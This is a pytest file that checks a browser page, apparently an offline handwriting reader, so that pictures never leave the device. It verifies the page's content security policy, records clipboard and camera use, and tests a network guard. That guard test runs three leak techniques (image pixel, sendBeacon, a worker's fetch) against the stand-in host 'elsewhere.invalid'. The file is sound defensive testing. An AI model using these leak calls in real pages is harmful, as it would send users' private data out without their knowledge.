"""No picture leaves the device: the page cannot, and the tests would notice."""

import re

import pytest

from tests.browser.visitor import file
from tests.handwriting import encode, write

POLICY = {
    "default-src": "'none'",
    "connect-src": "'self' blob:",  # a blob: address is a file that this origin holds already
    "base-uri": "'none'",
    "form-action": "'none'",
}

# Whoever asks for the clipboard or the camera is noted, and waits for ever.
WATCH_DEVICES = """
window.used = [];
const note = (what) => () => (used.push(what), new Promise(() => undefined));
navigator.clipboard.read = note("clipboard");
navigator.mediaDevices.getUserMedia = note("camera");
"""


def test_the_page_s_policy_keeps_everything_at_its_origin(settled):
    policy = settled.page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute(
        "content"
    )
    assert policy
    parts = dict(part.strip().split(" ", 1) for part in policy.strip("; ").split(";"))
    assert POLICY.items() <= parts.items()
    assert not re.search(r"https?:|\*|ws:", policy)


def test_the_browser_refuses_what_the_policy_forbids(visit):
    visitor = visit().open()
    visitor.tolerated = None  # the refusal is what is wanted here
    outcome = visitor.page.evaluate(
        "fetch('http://elsewhere.invalid/').then(() => 'sent', (error) => error.name)"
    )
    assert outcome == "TypeError"
    visitor.take_notes()


def test_camera_and_clipboard_are_used_by_their_buttons_and_by_nothing_else(visit_briefly):
    visitor = visit_briefly()
    visitor.page.context.add_init_script(WATCH_DEVICES)
    visitor.open().until_ready()
    assert visitor.read(encode(write(7)))["text"] == "7"
    visitor.pick(file("seven.png", encode(write(7))))
    visitor.card("seven.png").answered()
    assert visitor.page.evaluate("used") == []
    visitor.page.locator("#paste").click()
    visitor.page.wait_for_function("used.length === 1")
    visitor.page.locator("#camera").click()
    visitor.page.wait_for_function("used.length === 2")
    assert visitor.page.evaluate("used") == ["clipboard", "camera"]


def test_nothing_is_asked_of_the_server_while_a_picture_is_read(settled):
    asked = []

    def note(request):
        asked.append(request.url)

    # A snapshot of Python is made after the first reading, from the page's own files.
    settled.pick(file("first.png", encode(write(1))))
    settled.until_kept()
    settled.page.context.on("request", note)
    settled.pick(file("private.png", encode(write(7))))
    assert settled.card("private.png").answered().digit == "7"
    settled.page.context.remove_listener("request", note)
    assert asked, "not even the picture's own address was seen"
    assert not [url for url in asked if not url.startswith(("blob:", "data:"))]


@pytest.mark.parametrize(
    "leak",
    [
        "new Image().src = 'http://elsewhere.invalid/pixel'",
        "navigator.sendBeacon('http://elsewhere.invalid/beacon', 'x')",
        """new Worker(URL.createObjectURL(new Blob(
             ["fetch('http://elsewhere.invalid/worker', {mode: 'no-cors'}).catch(() => 0)"])))""",
    ],
    ids=["image", "beacon", "worker"],
)
def test_the_guard_notices_what_leaves(visit, outside, server, leak):
    """On a page without a policy the proxy that stands outside has to see each way of leaving."""
    visitor = visit(server.url + "style.css")
    visitor.tolerated = None
    visitor.open()
    visitor.page.evaluate(f"() => {{ {leak}; }}")
    for _ in range(100):
        if outside.asked:
            break
        visitor.page.wait_for_timeout(50)
    assert any("elsewhere.invalid" in line for line in outside.asked)
    visitor.page.close()  # after which nothing is told of its requests any more
    visitor.take_notes()
    outside.asked.clear()
